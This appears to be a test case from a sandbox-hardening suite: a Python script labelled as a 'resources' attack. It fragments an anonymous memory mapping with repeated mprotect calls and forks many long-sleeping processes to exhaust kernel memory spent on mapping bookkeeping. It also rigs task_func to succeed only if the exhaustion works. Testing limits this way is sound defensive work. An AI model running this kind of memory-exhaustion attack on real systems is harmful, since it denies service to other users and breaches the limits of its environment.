# attack: cuts its address space into as many mappings as there may be, in many processes
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# limit: 30
# expect: what the kernel keeps of each mapping counts
import ctypes
import mmap
import os
import time

MANY = __LIMIT_PROCESSES__ * 5 // 8
EACH = 60_000

libc = ctypes.CDLL(None)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def cut():
    pages = mmap.mmap(-1, EACH * 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    start = ctypes.addressof(ctypes.c_char.from_buffer(pages))
    for at in range(0, EACH, 2):
        if libc.mprotect(start + at * 4096, 4096, mmap.PROT_READ) != 0:
            break
    return pages


def flood():
    kept = cut()
    reader, writer = os.pipe()
    for _ in range(MANY):
        if os.fork() == 0:
            os.write(writer, os.getpid().to_bytes(4, "little"))
            time.sleep(3600)
    os.set_blocking(reader, False)
    end = time.monotonic() + 12
    born = b""
    while len(born) < 4 * MANY and time.monotonic() < end:
        try:
            born += os.read(reader, 4 * MANY)
        except BlockingIOError:
            time.sleep(0.05)
    time.sleep(8)
    pids = [int.from_bytes(born[at : at + 4], "little") for at in range(0, len(born), 4)]
    held = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in pids)  # the killed hold nothing
    return len(kept) > 0 and held * EACH * 192 >= __LIMIT_MEMORY_MIB__ << 20


WON = flood()


def task_func(n):
    return n * 2 if WON else None
